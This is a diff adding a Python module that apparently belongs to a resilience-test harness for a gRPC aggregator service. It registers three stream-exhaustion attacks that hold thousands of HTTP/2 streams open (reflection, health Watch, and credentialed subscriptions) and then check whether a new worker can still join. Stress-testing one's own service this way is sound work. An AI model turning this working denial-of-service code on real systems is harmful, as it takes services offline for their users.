@@ -1,0 +1,69 @@
+"""Streams that are opened and held."""
+import time
+
+import http2
+from attacks.connections import fresh_worker_joins
+from attacks.registry import attack
+from http2 import Connection, grpc_fields, message
+
+STREAMS_OF_CONNECTION = 32
+REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
+WATCH = "/grpc.health.v1.Health/Watch"
+SUBSCRIBE = "/distro.v1.AggregatorService/SubscribeRounds"
+REFLECTION_STREAMS, WATCH_STREAMS, SUBSCRIPTIONS = 1600, 1920, 4096
+LIST_SERVICES = b"\x3a\x00"  # ServerReflectionRequest.list_services = ""
+
+
+def hold(target, streams, path, request, token=None, more_follows=False):
+    """Opens streams, 32 a connection, reads what comes until the end, opens connections anew that were closed."""
+    wanted = streams // STREAMS_OF_CONNECTION
+    open_ones, opened, closed, most = [], 0, 0, 0
+    while target.goes_on():
+        while len(open_ones) < wanted and target.goes_on():
+            try:
+                connection = Connection(target.grpc, target.ca, target.source(opened), 3)
+                for _ in range(STREAMS_OF_CONNECTION):
+                    stream = connection.open_stream(grpc_fields(path, token))
+                    connection.send(http2.frame(http2.DATA, 0 if more_follows else 1, stream, message(request)))
+                open_ones.append(connection)
+            except OSError:
+                closed += 1
+                time.sleep(0.05)
+            opened += 1
+            if opened % 10 == 0:
+                break
+        for connection in list(open_ones):
+            try:
+                connection.read(0)
+                if connection.open_streams() == 0:
+                    connection.close()
+                    open_ones.remove(connection)
+            except OSError:
+                closed += 1
+                open_ones.remove(connection)
+        most = max(most, sum(connection.open_streams() for connection in open_ones))
+        time.sleep(0.02)
+    return {"connections": opened, "closed": closed, "streams_at_most": most,
+            "streams_at_the_end": sum(connection.open_streams() for connection in open_ones)}
+
+
+@attack("reflection_streams", f"{REFLECTION_STREAMS} streams of server reflection, held", check=fresh_worker_joins)
+def reflection_streams(target):
+    return hold(target, REFLECTION_STREAMS, REFLECTION, LIST_SERVICES, more_follows=True)
+
+
+@attack("health_watch", f"{WATCH_STREAMS} health Watch streams, held", check=fresh_worker_joins)
+def health_watch(target):
+    return hold(target, WATCH_STREAMS, WATCH, b"")
+
+
+@attack("subscriptions", f"an archiver's credential opens {SUBSCRIPTIONS} subscriptions", credential="archiver",
+        check=fresh_worker_joins, seconds=12)
+def subscriptions(target):
+    from client.messages import pb
+    from client.session import Caller
+    archiver = Caller(target.grpc, target.ca, target.tokens["archiver"])
+    run = archiver.get_run()
+    archiver.close()
+    request = pb.SubscribeRoundsRequest(run_id=run.run_id, from_round=run.round, last_hash=run.log_hash)
+    return hold(target, SUBSCRIPTIONS, SUBSCRIBE, request.SerializeToString(), target.tokens["archiver"])
